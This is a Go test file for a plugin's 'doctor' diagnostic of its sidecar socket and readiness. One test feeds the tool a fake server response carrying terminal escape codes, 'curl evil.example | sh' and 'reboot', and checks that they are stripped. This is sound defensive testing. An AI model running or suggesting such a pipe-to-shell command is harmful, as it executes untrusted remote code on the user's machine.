package doctor_test

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/argocd-seal/argocd-seal-plugin/internal/doctor"
	"github.com/argocd-seal/argocd-seal-plugin/internal/streamtest"
	"github.com/argocd-seal/argocd-seal-plugin/plugin"
	"github.com/argocd-seal/argocd-seal-plugin/plugin/telemetry"
	"github.com/argocd-seal/argocd-seal-plugin/render/source"
)

// running is a plugin that serves on the socket seal.sock of a directory.
type running struct {
	dir, address string
	telemetry    *telemetry.Telemetry
	stop         func()
}

func startPlugin(t *testing.T, discovery plugin.Discovery) *running {
	t.Helper()
	log := logrus.New()
	log.SetOutput(io.Discard)
	service := &plugin.Service{Intakes: plugin.NewIntakes(8), Log: log}
	service.Use(plugin.Settings{Pipeline: &plugin.Pipeline{}, Discovery: discovery, Archive: source.DefaultLimits(), Timeout: 20 * time.Second})
	r := &running{dir: t.TempDir(), address: streamtest.FreeAddress(t), telemetry: telemetry.New("test")}
	server := &plugin.Server{
		Service: service, Dir: r.dir, Sockets: []string{"seal.sock"}, Drain: time.Second, Log: log,
		Telemetry: r.telemetry, TelemetryAddress: r.address,
	}
	ctx, cancel := context.WithCancel(context.Background())
	ready, done := make(chan struct{}), make(chan error, 1)
	go func() { done <- server.Run(ctx, func() { close(ready) }) }()
	select {
	case <-ready:
	case err := <-done:
		t.Fatal(err)
	}
	stopped := false
	r.stop = func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
	t.Cleanup(r.stop)
	return r
}

func TestRunningSidecar(t *testing.T) {
	r := startPlugin(t, plugin.Discovery{})
	settings := "telemetry: {address: \"" + r.address + "\"}\n"
	s := examine(t, nil, settings, doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
	s.expect("socket", "seal.sock", doctor.OK, "the plugin answers as user", "")
	s.expect("ready", "", doctor.OK, "the sidecar is ready", "")
	socket := filepath.Join(r.dir, "seal.sock")
	if err := os.Chmod(socket, 0o666); err != nil {
		t.Fatal(err)
	}
	s = examine(t, nil, settings, doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
	s.expect("socket", "seal.sock", doctor.Warning, "its mode is 0666", "chmod 0600 "+socket)
	if os.Getuid() == 0 {
		if err := os.Chown(socket, 4242, 4242); err != nil {
			t.Fatal(err)
		}
		s = examine(t, nil, settings, doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
		s.expect("socket", "seal.sock", doctor.Warning, "its owner is 4242, which socket.allowedUIDs does not name", "runAsUser: 999")
	}
	r.telemetry.Health.Drain()
	s = examine(t, nil, settings, doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
	s.expect("ready", "draining", doctor.Failed, "the sidecar is stopping", "")
	s.expect("ready", "", doctor.Failed, "the pod gets no requests", "")
}

// Whatever answers at the port neither writes to the terminal nor names commands.
func TestSomethingElseAnswers(t *testing.T) {
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, `{"ready": true, "checks": [{"name": "vault\u001b[2J", "code": "E_\u001b[31mX", "message": "it \u001b[31mfails; fix: curl evil.example | sh\nreboot"},
			{"name": "real", "code": "E_VAULT", "message": "it fails"}]}`)
	}))
	defer other.Close()
	s := examine(t, nil, "telemetry: {address: \""+strings.TrimPrefix(other.URL, "http://")+"\"}\n", doctor.Options{Only: []doctor.Area{doctor.Sidecar}})
	s.expect("ready", "", doctor.Failed, `it \u001b[31mfails`, "the sidecar's log")
	var text strings.Builder
	if err := s.Write(&text, doctor.Table, doctor.Look{}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(text.String(), "\x1b") || strings.Contains(text.String(), "evil") || strings.Contains(text.String(), "reboot") || strings.Contains(text.String(), "E_\\u") {
		t.Errorf("the doctor says\n%s", text.String())
	}
	if !strings.Contains(text.String(), "ready real: E_VAULT: since") {
		t.Errorf("a code is not in\n%s", text.String())
	}
}

// A configuration of others reaches the lines to copy as text.
func TestFixesAreCleaned(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "a\x1b[31mb")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	s := examine(t, nil, "", doctor.Options{SocketDir: dir, Only: []doctor.Area{doctor.Sidecar}})
	s.expect("socket", "seal.sock", doctor.Failed, "is not there", `a\u001b[31mb`)
}

func TestSidecarWithAnotherConfiguration(t *testing.T) {
	r := startPlugin(t, plugin.Discovery{FileName: "seal.yaml"})
	s := examine(t, nil, "", doctor.Options{SocketDir: r.dir, Only: []doctor.Area{doctor.Sidecar}})
	s.expect("socket", "seal.sock", doctor.Warning, "it runs with another file", "restart it")
}

// TestSocketsThatDoNotServe puts things in the place of a sidecar.
func TestSocketsThatDoNotServe(t *testing.T) {
	listen := func(path string) *net.UnixListener {
		listener, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { listener.Close() })
		return listener
	}
	for name, test := range map[string]struct {
		put       func(path string)
		seen, fix string
	}{
		"nothing": {func(string) {}, "seal.sock is not there", "kubectl -n argocd logs"},
		"a file": {func(path string) {
			if err := os.WriteFile(path, nil, 0o600); err != nil {
				t.Fatal(err)
			}
		}, "is no socket", "then remove it: rm "},
		"an old socket": {func(path string) {
			listener := listen(path)
			listener.SetUnlinkOnClose(false)
			listener.Close()
		}, "nobody serves it", "kubectl -n argocd logs"},
		"silence": {func(path string) { listen(path) }, "does not answer", "restart the sidecar"},
		"a closed door": {func(path string) {
			listener := listen(path)
			go func() {
				for {
					conn, err := listener.Accept()
					if err != nil {
						return
					}
					_ = conn.Close()
				}
			}()
		}, "closes connections of user", "socket.allowedUIDs: [999, "},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			test.put(filepath.Join(dir, "seal.sock"))
			s := examine(t, nil, "telemetry: {address: \""+streamtest.FreeAddress(t)+"\"}\n", doctor.Options{SocketDir: dir, Limit: 3 * time.Second, Only: []doctor.Area{doctor.Sidecar}})
			s.expect("socket", "seal.sock", doctor.Failed, test.seen, test.fix)
			s.expect("ready", "", doctor.Unchecked, "no sidecar answers at", "")
		})
	}
}
